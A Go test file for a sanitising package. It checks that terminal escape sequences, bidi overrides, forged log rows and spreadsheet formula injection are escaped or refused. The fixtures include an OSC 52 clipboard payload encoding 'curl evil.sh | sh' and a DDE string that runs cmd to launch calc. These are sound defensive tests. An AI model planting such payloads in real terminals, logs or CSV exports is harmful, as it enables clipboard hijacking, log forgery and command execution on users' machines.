package sanitize

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// Payloads a hostile reason can carry: clear screen and home, OSC 0 (set
// the window title), OSC 52 (write the clipboard), 8-bit CSI, a bidi
// override that reverses the rest of the line, a forged second row.
const (
	clearScreen = "\x1b[2J\x1b[H"
	osc0        = "\x1b]0;pwned\x07"
	osc52       = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	csi8        = "\u009b2J"
	bidi        = "\u202eevil"
	forged      = "ok\n2026-01-01 00:00:00\taction.applied\tmallory"
)

var payloads = []string{clearScreen, osc0, osc52, csi8, bidi, forged, "a\rb", "\x7f", "bad\xffutf8", "\xe2\x80"}

// visible reports the first rune a terminal would act on, or -1.
func firstHostile(s string, keep func(rune) bool) int {
	for i, r := range s {
		if (r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD")) || (hostile(r) && !keep(r)) {
			return i
		}
	}
	return -1
}

func TestLineEscapesEveryPayload(t *testing.T) {
	for _, p := range payloads {
		got := Line("reason: " + p)
		if i := firstHostile(got, keepNothing); i >= 0 || !utf8.ValidString(got) {
			t.Errorf("Line(%q) = %q: hostile at %d", p, got, i)
		}
	}
	if got := Line(osc52); got != `\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007` {
		t.Errorf("OSC 52 shown as %q", got)
	}
	if got := Line("checkout->payments äöü 🌩"); got != "checkout->payments äöü 🌩" {
		t.Errorf("clean text changed: %q", got)
	}
	if got := Block("line one\n\tline two\x1b[2J"); got != "line one\n\tline two\\u001b[2J" {
		t.Errorf("Block = %q", got)
	}
}

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")",
		"+1+cmd|' /C calc'!A0":     "'+1+cmd|' /C calc'!A0",
		"-2+3":                     "'-2+3",
		"@SUM(A1)":                 "'@SUM(A1)",
		"\t=1":                     `\u0009=1`,
		"amplification 4x":         "amplification 4x",
		"\x1b]0;t\x07":             `\u001b]0;t\u0007`,
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestInputFoldsAndRefuses(t *testing.T) {
	got, err := Input("reason", "  amplification 4x\r\non checkout\tsince 14:02\n")
	if err != nil || got != "amplification 4x on checkout since 14:02" {
		t.Fatalf("fold: %q %v", got, err)
	}
	for _, p := range []string{clearScreen, osc0, osc52, csi8, bidi, "\x00x", "\xffbad"} {
		_, err := Input("reason", "ok "+p)
		ie, ok := err.(*InputError)
		if !ok || ie.Column != 4 || !strings.HasPrefix(err.Error(), "reason: ") {
			t.Errorf("Input(%q): %v, want an *InputError at column 4", p, err)
		}
	}
}

// TestWriterKeepsJSONExact: JSON through Writer is still valid and decodes
// to the original text, while no raw control character reaches the stream.
func TestWriterKeepsJSONExact(t *testing.T) {
	v := map[string]string{}
	for i, p := range payloads[:6] {
		v[string(rune('a'+i))] = p
	}
	raw, _ := json.Marshal(v)
	var out bytes.Buffer
	w := NewWriter(&out)
	for _, b := range raw { // one byte at a time: every sequence is cut
		if _, err := w.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if i := firstHostile(out.String(), keepLayout); i >= 0 {
		t.Fatalf("hostile byte at %d in %q", i, out.String())
	}
	var back map[string]string
	if err := json.Unmarshal(out.Bytes(), &back); err != nil {
		t.Fatalf("not JSON any more: %v\n%s", err, out.String())
	}
	for k, p := range v {
		if back[k] != p {
			t.Errorf("%s decoded to %q, want %q", k, back[k], p)
		}
	}
}

func FuzzLine(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Line(s)
		if i := firstHostile(got, keepNothing); i >= 0 || !utf8.ValidString(got) {
			t.Fatalf("Line(%q) = %q: hostile at %d", s, got, i)
		}
		if clean(s, keepNothing) && got != s {
			t.Fatalf("clean %q changed to %q", s, got)
		}
		if c := CSVCell(s); c != "" && strings.IndexByte(formulaLead, c[0]) >= 0 {
			t.Fatalf("CSVCell(%q) = %q starts a formula", s, c)
		}
	})
}

func FuzzInput(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, err := Input("reason", s)
		if err != nil {
			return
		}
		if Line(got) != got || got != strings.TrimSpace(got) {
			t.Fatalf("Input(%q) = %q still needs escaping", s, got)
		}
	})
}

// FuzzWriter: however the writes are cut, the stream equals Block of the
// whole, and holds nothing a terminal would act on.
func FuzzWriter(f *testing.F) {
	for _, p := range payloads {
		f.Add(p, uint8(1))
	}
	f.Fuzz(func(t *testing.T, s string, step uint8) {
		n := int(step%7) + 1
		var out bytes.Buffer
		w := NewWriter(&out)
		for i := 0; i < len(s); i += n {
			if _, err := w.Write([]byte(s[i:min(i+n, len(s))])); err != nil {
				t.Fatal(err)
			}
		}
		w.Flush()
		if want := Block(s); out.String() != want {
			t.Fatalf("cut every %d bytes: %q, whole: %q", n, out.String(), want)
		}
	})
}

func TestFrameKeepsStylesOnly(t *testing.T) {
	styled := "\x1b[1;38;5;196mCRIT\x1b[0m reason " + osc0 + clearScreen + csi8
	got := Frame(styled)
	want := "\x1b[1;38;5;196mCRIT\x1b[0m reason " + `\u001b]0;pwned\u0007\u001b[2J\u001b[H\u009b2J`
	if got != want {
		t.Fatalf("Frame = %q\nwant    %q", got, want)
	}
}

func FuzzFrame(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Add("\x1b[1mok\x1b[0m\x1b[")
	f.Fuzz(func(t *testing.T, s string) {
		got := Frame(s)
		// Removing the kept SGR sequences leaves nothing a terminal acts on.
		rest := got
		for i := strings.IndexByte(rest, 0x1b); i >= 0; i = strings.IndexByte(rest, 0x1b) {
			n := sgrLen(rest[i:])
			if n == 0 {
				t.Fatalf("Frame(%q) = %q keeps a non-SGR escape", s, got)
			}
			rest = rest[:i] + rest[i+n:]
		}
		if j := firstHostile(rest, keepLayout); j >= 0 {
			t.Fatalf("Frame(%q) = %q: hostile at %d", s, got, j)
		}
	})
}
